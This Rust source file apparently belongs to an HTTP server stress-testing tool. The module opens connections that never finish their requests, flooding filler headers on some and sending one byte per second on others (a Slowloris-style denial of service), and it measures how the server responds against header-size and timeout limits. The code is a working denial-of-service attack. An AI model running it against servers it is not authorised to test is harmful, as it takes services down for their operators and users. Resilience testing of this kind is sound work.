//! Begins HTTP requests that never end: every other connection sends headers as fast as the server accepts
//! them, the others send one byte per second.
//!
//! The attack costs the bytes that are sent. A server should read only a few kilobytes of a request's headers
//! (431), wait only a few seconds for their end (408, or close the connection), and use little memory in the
//! meantime.

use std::rc::Rc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::time::interval;

use super::Attacker;
use crate::transport::ResponseHead;

const FILLER: &[u8] =
    b"X-Filler: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
/// Number of header lines sent at a time.
const LINES: usize = 32;
const BYTE_EVERY: Duration = Duration::from_secs(1);

pub(super) async fn run(attacker: Rc<Attacker>, index: u32) {
    loop {
        let Some(stream) = attacker.connect().await else { continue };
        let (mut read, write) = stream.into_split();
        let answer = tokio::select! {
            answer = ResponseHead::read(&mut read) => answer,
            () = send_headers(&attacker, write, index) => ResponseHead::read(&mut read).await,
        };
        attacker.count_response(answer);
    }
}

/// Sends headers until the server accepts no more.
async fn send_headers(attacker: &Attacker, mut write: OwnedWriteHalf, index: u32) {
    let host = attacker.url().authority();
    let begin = format!("GET {} HTTP/1.1\r\nHost: {host}\r\n", attacker.url().path_with(""));
    attacker.count_sent(begin.len(), 1);
    let mut is_taken = write.write_all(begin.as_bytes()).await.is_ok();
    if index.is_multiple_of(2) {
        let lines = FILLER.repeat(LINES);
        while is_taken {
            attacker.count_sent(lines.len(), 0);
            is_taken = write.write_all(&lines).await.is_ok();
        }
    } else {
        let mut next = interval(BYTE_EVERY);
        for byte in FILLER.iter().cycle() {
            next.tick().await;
            attacker.count_sent(1, 0);
            if write.write_all(&[*byte]).await.is_err() {
                return;
            }
        }
    }
}
